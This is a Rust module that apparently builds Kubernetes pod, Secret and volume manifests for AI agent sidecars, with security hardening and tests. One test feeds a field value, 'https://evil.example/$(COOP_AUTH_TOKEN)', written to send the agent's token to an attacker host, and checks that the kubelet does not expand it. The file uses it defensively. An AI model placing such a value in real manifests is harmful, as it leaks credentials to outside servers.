//! What an agent is made of in a cluster: a pod, a Secret with its token, a claim of a volume. Its policy is in `network`.
//!
//! All are named `agent-NAME`. A cluster has one pod of a name at a time, whoever makes it: that there is never a second
//! sidecar for an agent rests on it.

use coop_api::lasting_hash;
use kube::{Resource, ResourceExt};
use serde_json::{Map, Value, json};

use crate::resource::{Agent, AgentSpec, Keep, Manager};

/// The sidecar's port, and the one for probes.
pub(crate) const PORT: u16 = 8080;
const HEALTH: u16 = 8081;
/// Who runs in the pod, if nothing else is said. It is nobody in particular, and not root.
const USER: i64 = 65532;
/// How long an agent may take to end: the sidecar's own patience of ten seconds, twice, and some.
const GRACE: i64 = 30;
/// Labels of what belongs to an agent.
pub(crate) const AGENT: &str = "coop.dev/agent";
/// Label of a claim that agents may name as `existingClaim`. Whoever may write claims decides about it, not whoever may write Agents.
pub(crate) const FOR_AGENTS: (&str, &str) = ("coop.dev/agents", "true");
/// Which fleet has made an Agent.
pub(crate) const FLEET: &str = "coop.dev/fleet";
pub(crate) const MANAGED: (&str, &str) = ("app.kubernetes.io/managed-by", "coop");
/// Which pod this would be. It changes when another would be made.
pub(crate) const HASH: &str = "coop.dev/pod-hash";
/// The token's place in the Secret.
pub(crate) const TOKEN: &str = "token";
/// Holds the agent's deletion until its process has ended.
pub(crate) const FINALIZER: &str = "coop.dev/stop";

/// The name of a fleet's settings for an agent in their Secret, and where that is mounted.
pub(crate) const CONFIG: &str = "agent-config.json";
const CONFIG_FOLDER: &str = "/etc/coop";
/// Where an agent's brief is: an annotation of its pod, and a file that is made of that.
pub(crate) const BRIEF: &str = "coop.dev/brief";
const BRIEF_FOLDER: &str = "/etc/coop-brief";

/// Clones the repository $1 at $2 into the folder $3, if that is empty. It is cloned into $4 and moved when it is whole, so
/// that a pod that ends meanwhile leaves nothing half. What is there already is not touched.
const CLONE: &str = r#"[ -n "$(ls -A "$3")" ] && exit 0
rm -rf "$4" && git clone ${2:+--branch "$2"} -- "$1" "$4" && rmdir "$3" && mv "$4" "$3""#;

/// What the operator says about all pods.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Images {
    /// The image with coop that the init container is made of.
    pub coop: String,
    /// When that is fetched, as Kubernetes has it.
    pub pull_policy: Option<String>,
}

/// Returns the name of all that belongs to an agent.
pub(crate) fn child(agent: &str) -> String {
    format!("agent-{agent}")
}

pub(crate) fn metadata(agent: &Agent, goes_with_it: Goes) -> Value {
    let name = agent.name_any();
    let mut metadata = json!({
        "name": child(&name),
        "namespace": agent.namespace(),
        "labels": { AGENT: name, MANAGED.0: MANAGED.1, "app.kubernetes.io/name": "coop-agent" },
    });
    if goes_with_it == Goes::WithAgent {
        metadata["ownerReferences"] = json!([agent.controller_owner_ref(&())]);
    }
    metadata
}

/// Whether something is deleted with its agent.
#[derive(Clone, Copy, PartialEq, Eq)]
pub(crate) enum Goes {
    WithAgent,
    Never,
}

pub(crate) fn secret(agent: &Agent, token: &str) -> Value {
    json!({
        "apiVersion": "v1", "kind": "Secret", "metadata": metadata(agent, Goes::WithAgent), "type": "Opaque",
        "stringData": { TOKEN: token },
    })
}

/// Returns the claim of a volume of its own, if it wants one.
pub(crate) fn claim(agent: &Agent) -> Option<Value> {
    let claim = agent.spec.workspace.claim.as_ref()?;
    let goes = match claim.when_deleted {
        Keep::Retain => Goes::Never,
        Keep::Delete => Goes::WithAgent,
    };
    let modes = match claim.access_modes.as_slice() {
        [] => json!(["ReadWriteOnce"]),
        modes => json!(modes),
    };
    let mut spec = json!({ "accessModes": modes, "resources": { "requests": { "storage": claim.size } } });
    if let Some(class) = &claim.storage_class {
        spec["storageClassName"] = json!(class);
    }
    Some(
        json!({ "apiVersion": "v1", "kind": "PersistentVolumeClaim", "metadata": metadata(agent, goes), "spec": spec }),
    )
}

/// Returns the pod: coop as the first process, and the agent below it.
pub(crate) fn pod(agent: &Agent, images: &Images) -> Value {
    let spec = &agent.spec;
    let user = spec.user.unwrap_or(USER);
    let program = if spec.image_has_coop { "/usr/local/bin/coop" } else { "/coop/coop" };
    let own = format!("/data/.coop/{}", agent.name_any());
    let home = format!("{own}/home");
    let locked = json!({
        "allowPrivilegeEscalation": false, "readOnlyRootFilesystem": true, "capabilities": { "drop": ["ALL"] },
    });
    let data_and_tmp = [json!({ "name": "data", "mountPath": "/data" }), json!({ "name": "tmp", "mountPath": "/tmp" })];
    let mounts = |more: &[Value]| json!([&data_and_tmp, more].concat());
    // What runs in the agent's image cannot replace the program that the sidecar was started from.
    let mut agent_mounts = vec![json!({ "name": "coop", "mountPath": "/coop", "readOnly": true })];
    let container = |name: &str, image: &str, policy: &Option<String>, rest: Value| {
        let mut container = json!({ "name": name, "image": image, "securityContext": locked });
        if let Some(policy) = policy {
            container["imagePullPolicy"] = json!(policy);
        }
        taken_as_it_is(merge(container, rest))
    };
    let mut unpack = vec!["unpack".to_owned(), "--folder".to_owned(), home.clone()];
    unpack.extend(["--folder".to_owned(), "/data/workspace".to_owned()]);
    if !spec.image_has_coop {
        unpack.extend(["--to".to_owned(), "/coop/coop".to_owned()]);
    }
    let mut first = vec![container("coop", &images.coop, &images.pull_policy, {
        let mounts = mounts(&[json!({ "name": "coop", "mountPath": "/coop" })]);
        json!({ "command": ["/usr/local/bin/coop"], "args": unpack, "volumeMounts": mounts })
    })];
    if let Some(git) = &spec.workspace.git {
        // The words are the script's arguments, and never part of it.
        let args = json!([
            "-c",
            CLONE,
            "clone",
            git.url,
            git.reference.clone().unwrap_or_default(),
            "/data/workspace",
            format!("{own}/clone")
        ]);
        let env = json!([{ "name": "HOME", "value": home }]);
        let rest = json!({ "command": ["/bin/sh"], "args": args, "env": env, "volumeMounts": mounts(&agent_mounts) });
        first.push(container("clone", &spec.image, &spec.image_pull_policy, rest));
    }
    let mut args = vec!["--agent".to_owned(), spec.driver.clone()];
    args.extend(isolation(spec).map(str::to_owned));
    // Nobody is there to be asked, and what the folder's settings do, they do in the pod.
    args.extend(isolation(spec).map(|_| "--trust".to_owned()));
    let served =
        ["--host", "0.0.0.0", "--port", &PORT.to_string(), "--health-port", &HEALTH.to_string(), "--linger", "forever"];
    args.extend(served.map(str::to_owned));
    match (spec.managed_by, &spec.resume) {
        (Manager::Operator, _) => args.extend(["--session-file".to_owned(), format!("{own}/session")]),
        (Manager::Fleet, Some(conversation)) => args.extend(["--resume".to_owned(), conversation.clone()]),
        (Manager::Fleet, None) => {}
    }
    if spec.brief.is_some() {
        args.extend(["--brief".to_owned(), format!("{BRIEF_FOLDER}/brief.json")]);
    }
    if spec.config_secret.is_some() {
        args.extend(["--agent-config".to_owned(), format!("{CONFIG_FOLDER}/{CONFIG}")]);
    }
    if let Some(runtime) = &spec.runtime {
        args.extend(["--runtime".to_owned(), runtime.clone()]);
    }
    args.push("--".to_owned());
    if spec.command.is_empty() && spec.driver != "api" {
        args.push(spec.driver.clone());
    }
    args.extend(spec.command.iter().cloned());
    let probe = |seconds: u32, failures: u32| {
        let get = json!({ "path": "/", "port": HEALTH });
        json!({ "httpGet": get, "periodSeconds": seconds, "failureThreshold": failures, "timeoutSeconds": 5 })
    };
    let mut main = json!({
        "command": [program], "args": args, "workingDir": "/data/workspace", "env": environment(agent, &home),
        "ports": [{ "name": "api", "containerPort": PORT }, { "name": "health", "containerPort": HEALTH }],
        "readinessProbe": probe(5, 2), "livenessProbe": probe(20, 6),
        "terminationMessagePolicy": "FallbackToLogsOnError",
    });
    if let Some(resources) = &spec.resources {
        main["resources"] = json!(resources);
    }
    let mut volumes = vec![json!({ "name": "tmp", "emptyDir": {} }), json!({ "name": "coop", "emptyDir": {} })];
    let mut more = |name: &str, folder: &str, what: &str, of: Value| {
        agent_mounts.push(json!({ "name": name, "mountPath": folder, "readOnly": true }));
        volumes.push(json!({ "name": name, what: of }));
    };
    if let Some(secret) = &spec.config_secret {
        more("config", CONFIG_FOLDER, "secret", json!({ "secretName": secret, "defaultMode": 0o400 }));
    }
    if spec.brief.is_some() {
        let field = json!({ "fieldPath": format!("metadata.annotations['{BRIEF}']") });
        let items = json!([{ "path": "brief.json", "fieldRef": field }]);
        more("brief", BRIEF_FOLDER, "downwardAPI", json!({ "items": items, "defaultMode": 0o400 }));
    }
    main["volumeMounts"] = mounts(&agent_mounts);
    let data = match (&spec.workspace.existing_claim, &spec.workspace.claim) {
        (Some(name), _) => json!({ "name": "data", "persistentVolumeClaim": { "claimName": name } }),
        (None, Some(_)) => {
            json!({ "name": "data", "persistentVolumeClaim": { "claimName": child(&agent.name_any()) } })
        }
        (None, None) => json!({ "name": "data", "emptyDir": {} }),
    };
    volumes.insert(0, data);
    let stays =
        |key: &str| json!({ "key": format!("node.kubernetes.io/{key}"), "operator": "Exists", "effect": "NoExecute" });
    let mut pod = json!({
        "apiVersion": "v1", "kind": "Pod", "metadata": metadata(agent, Goes::WithAgent),
        "spec": {
            "restartPolicy": "Never",
            "automountServiceAccountToken": false,
            "enableServiceLinks": false,
            "terminationGracePeriodSeconds": GRACE,
            // A node that is silent for a while may come back with the agent alive. Where it runs next is decided by
            // the operator, once somebody has confirmed that the node is down.
            "tolerations": [stays("not-ready"), stays("unreachable")],
            "securityContext": {
                "runAsNonRoot": true, "runAsUser": user, "runAsGroup": user, "fsGroup": user,
                "seccompProfile": { "type": "RuntimeDefault" },
            },
            "initContainers": first,
            "containers": [container("agent", &spec.image, &spec.image_pull_policy, main)],
            "volumes": volumes,
        },
    });
    if !spec.image_pull_secrets.is_empty() {
        pod["spec"]["imagePullSecrets"] = json!(spec.image_pull_secrets);
    }
    let brief = spec.brief.as_ref().map(|brief| json!(brief).to_string());
    let runs = format!("{}{}", pod["spec"], brief.as_deref().unwrap_or_default());
    pod["metadata"]["annotations"] = json!({ HASH: format!("{:016x}", lasting_hash(runs.as_bytes())) });
    if let Some(brief) = brief {
        pod["metadata"]["annotations"][BRIEF] = json!(brief);
    }
    pod
}

/// Returns the option by which coop gives the agent a configuration of its own, set up without dialogs. One that it cannot give
/// any has what is in its home, which is its own too. Which agent `auto` is, the sidecar knows.
fn isolation(spec: &AgentSpec) -> Option<&'static str> {
    match spec.driver.as_str() {
        "acp" | "api" | "unknown" => None,
        // Run so, it is an ACP agent.
        "gemini" if spec.brief.is_some() || spec.runtime.as_deref() == Some("pipe") => None,
        "auto" => Some("--isolate=if-possible"),
        _ => Some("--isolate"),
    }
}

fn environment(agent: &Agent, home: &str) -> Vec<Value> {
    let from = |env: &str, secret: &str, key: &str| json!({ "name": env, "valueFrom": { "secretKeyRef": { "name": secret, "key": key } } });
    let mut variables: Vec<Value> =
        agent.spec.env.iter().map(|(name, value)| json!({ "name": name, "value": value })).collect();
    variables.extend(agent.spec.secrets.iter().map(|secret| from(&secret.env, &secret.secret, &secret.key)));
    // Last, so that nothing else can be meant by these names.
    variables.push(json!({ "name": "HOME", "value": home }));
    variables.push(from("COOP_AUTH_TOKEN", &child(&agent.name_any()), TOKEN));
    variables
}

/// Doubles each `$` where the kubelet would put variables in place of `$(NAME)`, the agent's token among them: it reads two as
/// one that means nothing.
fn taken_as_it_is(mut container: Value) -> Value {
    let double = |value: &mut Value| {
        if let Value::String(text) = value {
            *text = text.replace('$', "$$");
        }
    };
    for list in ["command", "args"] {
        container[list].as_array_mut().into_iter().flatten().for_each(double);
    }
    let variables = container.get_mut("env").and_then(Value::as_array_mut);
    variables.into_iter().flatten().filter_map(|variable| variable.get_mut("value")).for_each(double);
    container
}

fn merge(mut one: Value, other: Value) -> Value {
    let mut all: Map<String, Value> = one.as_object_mut().map(std::mem::take).unwrap_or_default();
    if let Value::Object(other) = other {
        all.extend(other);
    }
    Value::Object(all)
}

#[cfg(test)]
mod tests {
    use std::os::unix::fs::PermissionsExt;

    use k8s_openapi::api::core::v1::{PersistentVolumeClaim, Pod, Secret};
    use serde::Serialize;
    use serde::de::DeserializeOwned;

    use super::*;
    use crate::resource::{AgentSpec, Claim, Git, PullSecret, Resources, SecretVariable, Workspace};

    fn images() -> Images {
        Images { coop: "coop:1".to_owned(), pull_policy: None }
    }

    fn agent() -> Agent {
        let secret = SecretVariable { env: "KEY".into(), secret: "keys".into(), key: "model".into() };
        let claim = Claim {
            size: "1Gi".into(),
            storage_class: Some("fast".into()),
            access_modes: Vec::new(),
            when_deleted: Keep::Retain,
        };
        let git = Git { url: "https://example.org/x.git".into(), reference: Some("main".into()) };
        let spec = AgentSpec {
            driver: "claude".into(),
            image: "agent:1".into(),
            env: [("A".to_owned(), "b".to_owned())].into(),
            secrets: vec![secret],
            workspace: Workspace { claim: Some(claim), existing_claim: None, git: Some(git) },
            resources: Some(Resources {
                limits: [("memory".to_owned(), "1Gi".to_owned())].into(),
                ..Default::default()
            }),
            ..AgentSpec::default()
        };
        let mut agent = Agent::new("fixer", spec);
        agent.metadata.namespace = Some("team".to_owned());
        agent.metadata.uid = Some("uid-1".to_owned());
        agent
    }

    /// What is not said does not stand there: a newer operator gives idle agents no other pods for it.
    #[test]
    fn images_are_fetched_with_the_secrets_that_are_named() {
        let mut agent = agent();
        assert_eq!(pod(&agent, &images())["spec"]["imagePullSecrets"], Value::Null);
        agent.spec.image_pull_secrets = vec![PullSecret { name: "registry".into() }];
        let made = pod(&agent, &images());
        assert_eq!(made["spec"]["imagePullSecrets"], json!([{ "name": "registry" }]));
        let read: Pod = serde_json::from_value(made.clone()).expect("it is one");
        assert_eq!(serde_json::to_value(read).expect("JSON"), made, "Kubernetes knows every field");
    }

    /// A field that is misspelt is not an error to Kubernetes: it is dropped.
    #[test]
    fn kubernetes_knows_every_field() {
        fn same<T: Serialize + DeserializeOwned>(manifest: &Value) {
            let read: T = serde_json::from_value(manifest.clone()).expect("it is one");
            assert_eq!(&serde_json::to_value(read).expect("JSON"), manifest);
        }
        let agent = agent();
        same::<Pod>(&pod(&agent, &images()));
        same::<Secret>(&secret(&agent, "hush"));
        same::<PersistentVolumeClaim>(&claim(&agent).expect("it wants one"));
    }

    #[test]
    fn nothing_in_the_pod_is_root_or_can_write_the_image() {
        let pod = pod(&agent(), &images());
        assert_eq!(pod["spec"]["securityContext"]["runAsNonRoot"], true);
        let containers =
            ["initContainers", "containers"].map(|kind| pod["spec"][kind].as_array().cloned().expect("some"));
        for container in containers.concat() {
            assert_eq!(
                container["securityContext"],
                json!({ "allowPrivilegeEscalation": false, "readOnlyRootFilesystem": true,
                        "capabilities": { "drop": ["ALL"] } })
            );
        }
        assert_eq!(pod["spec"]["automountServiceAccountToken"], false);
    }

    #[test]
    fn the_token_stands_in_no_pod_and_no_variable_replaces_it() {
        let mut agent = agent();
        agent.spec.env.insert("COOP_AUTH_TOKEN".into(), "guess".into());
        let pod = pod(&agent, &images());
        let env = pod["spec"]["containers"][0]["env"].as_array().cloned().expect("variables");
        let last = env.iter().rfind(|variable| variable["name"] == "COOP_AUTH_TOKEN").expect("it is there");
        assert_eq!(last["valueFrom"]["secretKeyRef"], json!({ "name": "agent-fixer", "key": "token" }));
    }

    /// Puts variables in place of `$(NAME)` as the kubelet does in words and in values of variables.
    fn expanded(text: &str, variables: &dyn Fn(&str) -> Option<String>) -> String {
        let Some((before, after)) = text.split_once('$') else { return text.to_owned() };
        let (found, rest) = match after.strip_prefix('(').and_then(|inside| inside.split_once(')')) {
            Some((name, rest)) => (variables(name).unwrap_or_else(|| format!("$({name})")), rest),
            None => ("$".to_owned(), after.strip_prefix('$').unwrap_or(after)),
        };
        format!("{before}{found}{}", expanded(rest, variables))
    }

    /// Returns all words and values of a pod's containers, as its processes have them.
    fn words_in(pod: &Value) -> Vec<String> {
        let containers = ["initContainers", "containers"].map(|kind| pod["spec"][kind].as_array().expect("some"));
        let mut words = Vec::new();
        for container in containers.into_iter().flatten() {
            let lists = ["command", "args"].map(|list| container[list].as_array().expect("words"));
            let values = container["env"].as_array().into_iter().flatten().map(|variable| &variable["value"]);
            words.extend(lists.into_iter().flatten().chain(values).filter_map(Value::as_str).map(str::to_owned));
        }
        words.iter().map(|word| expanded(word, &|name| Some(format!("<the value of {name}>")))).collect()
    }

    type Field = (&'static str, fn(&mut AgentSpec, &str));
    /// Where whoever applies an Agent can put a word of theirs.
    const FIELDS: [Field; 7] = [
        ("command", |spec, word| spec.command = vec!["run".into(), word.into()]),
        ("env", |spec, word| drop(spec.env.insert("A".into(), word.into()))),
        ("driver", |spec, word| spec.driver = word.into()),
        ("runtime", |spec, word| spec.runtime = Some(word.into())),
        ("git.url", |spec, word| spec.workspace.git.as_mut().expect("one").url = word.into()),
        ("git.ref", |spec, word| spec.workspace.git.as_mut().expect("one").reference = Some(word.into())),
        ("resume", |spec, word| {
            (spec.managed_by, spec.resume) = (Manager::Fleet, Some(word.into()));
        }),
    ];

    /// The attack: `git.url: https://evil.example/$(COOP_AUTH_TOKEN)` sends the agent's token to whoever has that server.
    #[test]
    fn the_kubelet_puts_no_variable_into_a_word() {
        for (field, set) in FIELDS {
            let mut agent = agent();
            set(&mut agent.spec, "https://evil.example/$(COOP_AUTH_TOKEN)");
            let words = words_in(&pod(&agent, &images()));
            assert!(words.iter().any(|word| word == "https://evil.example/$(COOP_AUTH_TOKEN)"), "{field}: {words:?}");
            assert!(!words.iter().any(|word| word.contains("<the value of")), "{field}: {words:?}");
        }
        let words = words_in(&pod(&agent(), &images()));
        assert!(words.iter().any(|word| word == CLONE), "our own script is not changed either: {words:?}");
    }

    proptest::proptest! {
        #[test]
        fn every_word_comes_to_the_process_as_it_is(word in "([$()a-zA-Z_]|\\PC){0,24}", field in 0..FIELDS.len()) {
            let mut agent = agent();
            FIELDS[field].1(&mut agent.spec, &word);
            let words = words_in(&pod(&agent, &images()));
            proptest::prop_assert!(words.contains(&word), "{}: {word:?} {words:?}", FIELDS[field].0);
            proptest::prop_assert!(!words.iter().any(|word| word.contains("<the value of")), "{word:?} {words:?}");
        }
    }

    /// The attack: an agent writes its own program over coop's, and whatever the sidecar starts by that path is the agent's.
    #[test]
    fn an_agents_image_cannot_replace_coops_program() {
        let mut agent = agent();
        agent.spec.config_secret = Some("own".into());
        let made = pod(&agent, &images());
        let mount = |kind: &str, number: usize| {
            let mounts = made["spec"][kind][number]["volumeMounts"].as_array().cloned().expect("some");
            mounts.into_iter().find(|mount| mount["name"] == "coop").expect("it is mounted")
        };
        assert_eq!(
            mount("initContainers", 0),
            json!({ "name": "coop", "mountPath": "/coop" }),
            "coop unpack writes it"
        );
        let locked = json!({ "name": "coop", "mountPath": "/coop", "readOnly": true });
        assert_eq!([mount("initContainers", 1), mount("containers", 0)], [locked.clone(), locked]);
    }

    #[test]
    fn a_volume_stays_unless_it_is_said_otherwise() {
        let mut agent = agent();
        assert_eq!(claim(&agent).expect("one")["metadata"]["ownerReferences"], Value::Null);
        agent.spec.workspace.claim.as_mut().expect("one").when_deleted = Keep::Delete;
        assert_eq!(claim(&agent).expect("one")["metadata"]["ownerReferences"][0]["name"], "fixer");
    }

    /// A fleet says itself which conversation goes on, and has its settings for the agent beside it.
    #[test]
    fn the_pod_of_a_fleets_agent_has_its_settings_and_no_memory_of_its_own() {
        let mut agent = agent();
        agent.spec.managed_by = Manager::Fleet;
        agent.spec.resume = Some("conversation-1".into());
        agent.spec.config_secret = Some("agent-fixer-1".into());
        let pod = pod(&agent, &images());
        serde_json::from_value::<Pod>(pod.clone()).expect("it is one");
        let main = &pod["spec"]["containers"][0];
        let args: Vec<_> = main["args"].as_array().expect("some").iter().filter_map(Value::as_str).collect();
        assert!(args.windows(2).any(|two| two == ["--resume", "conversation-1"]), "{args:?}");
        assert!(args.windows(2).any(|two| two == ["--agent-config", "/etc/coop/agent-config.json"]), "{args:?}");
        assert!(!args.contains(&"--session-file"), "{args:?}");
        let mounted = |mount: &Value| mount["name"] == "config" && mount["readOnly"] == true;
        assert!(main["volumeMounts"].as_array().expect("some").iter().any(mounted));
        assert_eq!(pod["spec"]["volumes"][3]["secret"]["secretName"], "agent-fixer-1");
    }

    /// A sidecar makes no folder for its session file; and every pod has one, since its lock lets no second sidecar run.
    #[test]
    fn the_folder_of_the_session_file_is_made_before() {
        for driver in ["claude", "unknown", "auto"] {
            let mut agent = agent();
            agent.spec.driver = driver.to_owned();
            let pod = pod(&agent, &images());
            let after = |args: &Value, name: &str| -> Vec<String> {
                let args: Vec<_> = args.as_array().expect("some").iter().filter_map(Value::as_str).collect();
                args.windows(2).filter(|two| two[0] == name).map(|two| two[1].to_owned()).collect()
            };
            let file = after(&pod["spec"]["containers"][0]["args"], "--session-file");
            let [file] = file.as_slice() else { panic!("{driver}: {file:?}") };
            let (folder, _) = file.rsplit_once('/').expect("a folder");
            let made = after(&pod["spec"]["initContainers"][0]["args"], "--folder");
            assert!(made.iter().any(|made| made.starts_with(&format!("{folder}/"))), "{driver}: {file} {made:?}");
        }
    }

    /// The file is made of an annotation by the kubelet, so that the operator needs no right to change anything for it.
    #[test]
    fn a_brief_comes_as_a_file_and_another_brief_is_another_pod() {
        let mut agent = agent();
        let hash = |agent: &Agent| pod(agent, &images())["metadata"]["annotations"][HASH].clone();
        let without = hash(&agent);
        agent.spec.brief = json!({ "agentId": "a1" }).as_object().cloned();
        agent.spec.config_secret = Some("own".into());
        let made = pod(&agent, &images());
        let read: Pod = serde_json::from_value(made.clone()).expect("it is one");
        assert_eq!(serde_json::to_value(read).expect("JSON"), made, "Kubernetes knows every field");
        assert_eq!(made["metadata"]["annotations"][BRIEF], r#"{"agentId":"a1"}"#);
        let main = &made["spec"]["containers"][0];
        let args: Vec<_> = main["args"].as_array().expect("some").iter().filter_map(Value::as_str).collect();
        assert!(args.windows(2).any(|two| two == ["--brief", "/etc/coop-brief/brief.json"]), "{args:?}");
        let mounts: Vec<_> =
            main["volumeMounts"].as_array().expect("some").iter().map(|one| &one["mountPath"]).collect();
        assert_eq!(mounts, ["/data", "/tmp", "/coop", "/etc/coop", "/etc/coop-brief"]);
        agent.spec.config_secret = None;
        let one = hash(&agent);
        agent.spec.brief = json!({ "agentId": "a2" }).as_object().cloned();
        assert!(one != without && one != hash(&agent));
    }

    /// The bug this keeps away: a sidecar refuses to isolate an agent that it cannot, and the pod never starts. The option is
    /// where it always was: each idle agent whose words are others gets another pod.
    #[test]
    fn only_agents_that_can_be_are_isolated() {
        let third = |driver: &str, runtime: Option<&str>| {
            let mut agent = agent();
            (agent.spec.driver, agent.spec.runtime) = (driver.to_owned(), runtime.map(str::to_owned));
            pod(&agent, &images())["spec"]["containers"][0]["args"][2].as_str().expect("a word").to_owned()
        };
        for driver in ["claude", "codex", "opencode", "gemini"] {
            assert_eq!(third(driver, None), "--isolate", "{driver}");
        }
        assert_eq!(third("auto", None), "--isolate=if-possible");
        for (driver, runtime) in [("acp", None), ("api", None), ("unknown", None), ("gemini", Some("pipe"))] {
            assert_eq!(third(driver, runtime), "--host", "{driver}");
        }
    }

    /// The bug this keeps away: a clone that was cut off is half a repository, and the next pod takes it for a whole one.
    #[test]
    fn a_repository_is_cloned_whole_or_not_at_all() {
        let folder = tempfile::tempdir().expect("a folder");
        let at = |name: &str| folder.path().join(name);
        let git = |script: &str| {
            std::fs::create_dir_all(at("bin")).expect("made");
            std::fs::write(at("bin/git"), format!("#!/bin/sh\n{script}")).expect("written");
            std::fs::set_permissions(at("bin/git"), std::fs::Permissions::from_mode(0o755)).expect("set");
        };
        let clone = |reference: &str| {
            let words = ["-c", CLONE, "clone", "https://example.org/x.git", reference];
            let mut command = std::process::Command::new("/bin/sh");
            command
                .args(words)
                .arg(at("workspace"))
                .arg(at("clone"))
                .env("PATH", format!("{}:/bin:/usr/bin", at("bin").display()));
            command.status().expect("it runs").success()
        };
        let names = |path: &str| {
            let mut names: Vec<_> = std::fs::read_dir(at(path))
                .expect("it is there")
                .map(|entry| entry.expect("one").file_name())
                .collect();
            names.sort();
            names
        };
        std::fs::create_dir(at("workspace")).expect("made");
        let make = r#"for last; do :; done; mkdir "$last" && echo "$*" >"$last/first""#;
        git(&format!("{make}; kill -KILL $$"));
        assert!(!clone("main"));
        assert_eq!(names("workspace"), Vec::<&str>::new(), "nothing half is there");
        git(&format!(r#"{make}; touch "$last/second""#));
        assert!(clone("main"), "what was left is no hindrance");
        assert_eq!(names("workspace"), ["first", "second"]);
        let said = std::fs::read_to_string(at("workspace/first")).expect("read");
        assert!(said.starts_with("clone --branch main -- https://example.org/x.git "), "{said}");
        git("exit 1");
        assert!(clone("main"), "what is there is not cloned again");
        assert_eq!(names("workspace"), ["first", "second"]);
    }

    #[test]
    fn the_hash_is_about_what_runs() {
        let hash = |agent: &Agent| pod(agent, &images())["metadata"]["annotations"][HASH].clone();
        let (one, mut other) = (agent(), agent());
        other.spec.prompt = Some("something else".into());
        assert_eq!(hash(&one), hash(&other), "what it is told is not how it is run");
        other.spec.image = "agent:2".into();
        assert_ne!(hash(&one), hash(&other));
    }
}
